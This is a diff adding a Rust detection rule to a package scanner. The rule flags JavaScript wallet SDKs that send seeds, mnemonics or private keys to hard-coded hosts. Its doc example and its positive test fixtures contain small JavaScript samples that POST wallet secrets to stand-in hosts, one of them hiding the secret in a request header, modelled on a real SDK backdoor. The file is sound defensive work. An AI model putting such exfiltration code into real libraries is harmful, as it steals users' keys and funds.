@@ -1,0 +1,135 @@
+//! `code/wallet-secret-exfiltration`.
+
+use super::{describe, flow_finding, flows};
+use crate::CodeFinding;
+use crate::flow::{SinkKind, SourceKind};
+use crate::signal::PackageFacts;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// A wallet seed, mnemonic or private key handed to the library is sent to a hard-coded host.
+    ///
+    /// ## What it detects
+    /// A value-flow path from a function parameter or variable named like a wallet secret (`seed`, `mnemonic`,
+    /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings) to a network send
+    /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
+    /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
+    /// parameter's module or one it imports or is imported by. Signing, key
+    /// derivation and hashing (`sign*`, `derive*`, `getPublicKey`, `keccak256`) stop the path: a signature
+    /// does not reveal the key.
+    ///
+    /// ## Why it matters
+    /// The April 2025 `xrpl.js` backdoor added an innocuously named helper that POSTed every seed and private
+    /// key the SDK was given to the attacker, hidden in a request header; wallet SDKs are trusted with the
+    /// keys of every application that uses them, and nothing runs at install to give them away.
+    ///
+    /// ## Example
+    /// `function check(seed) { fetch('https://x.example/v', { headers: { 'x-ref': seed } }) }`
+    ///
+    /// ## Known false positives
+    /// Custodial signing services whose API takes the private key itself (rare, and bad practice). A key sent
+    /// to a URL the caller configures (an RPC endpoint option) has no constant destination and is not reported.
+    pub static WALLET_SECRET_EXFILTRATION = { id: "code/wallet-secret-exfiltration", severity: Severity::Critical };
+}
+
+/// One finding per send reached by a wallet secret with a constant destination.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = Vec::new();
+    for path in flows(p, &[SourceKind::WalletSecret], &[SinkKind::Network]).take(20) {
+        if path.dest.is_none() || !near(p, &path.from.file, &path.to.file) {
+            continue;
+        }
+        out.push(flow_finding(
+            &WALLET_SECRET_EXFILTRATION,
+            WALLET_SECRET_EXFILTRATION.default_severity,
+            p,
+            path,
+            format!("wallet secret is sent out: {}", describe(path)),
+        ));
+    }
+    super::one_per_sink(out)
+}
+
+/// True when the secret's module and the send's module are one file or one `require`/`import`
+/// apart. Over many modules of a large SDK the field-insensitive graph joins unrelated
+/// values (a key stored in one account object, an avatar URL fetched by another): a helper
+/// that leaks a key sits next to the code that hands it the key.
+fn near(p: &PackageFacts, from: &str, to: &str) -> bool {
+    if from == to {
+        return true;
+    }
+    let (Some(a), Some(b)) = (p.file(from), p.file(to)) else {
+        return false;
+    };
+    a.deps.contains(&b.path) || b.deps.contains(&a.path)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    /// The SDK backdoor shape: key-handling methods pass the secret to a helper in another
+    /// module that sends it in a header and the body.
+    #[test]
+    fn positive_secret_through_a_helper_module() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/util.js",
+                "exports.checkSeed = async function (value) {\n  const body = JSON.stringify({ v: value });\n  await fetch('https://api.example.net/validate', { method: 'POST', headers: { 'x-ref': value }, body });\n  return true;\n};\n",
+            ),
+            (
+                "index.js",
+                "const { checkSeed } = require('./lib/util');\nclass Wallet {\n  static fromMnemonic(mnemonic) {\n    checkSeed(mnemonic);\n    return new Wallet();\n  }\n}\nmodule.exports = Wallet;\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("lib/util.js".to_string(), 3)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A wallet generator that posts the mnemonic it has just created.
+    #[test]
+    fn positive_generated_mnemonic_posted() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "gen.js",
+                "const bip39 = require('bip39');\nexports.create = function () {\n  const mnemonic = bip39.generateMnemonic();\n  fetch('https://api.example.org/backup', { method: 'POST', body: mnemonic });\n  return mnemonic;\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("gen.js".to_string(), 4)]
+        );
+    }
+
+    /// A wallet SDK signs with the key and broadcasts the signed transaction to its node.
+    #[test]
+    fn negative_signed_transaction_broadcast() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const keys = require('keypairs');\nexports.submit = async function (tx, privateKey) {\n  const signed = keys.sign(JSON.stringify(tx), privateKey);\n  const pub = keys.deriveAddress(privateKey);\n  return fetch('https://rpc.example.org/', { method: 'POST', body: JSON.stringify({ tx_blob: signed, account: pub }) });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The key goes to the node the caller configured: no constant destination.
+    #[test]
+    fn negative_callers_endpoint() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "exports.importKey = function (url, privateKey) {\n  return fetch(url, { method: 'POST', body: JSON.stringify({ privateKey }) });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+    }
+}
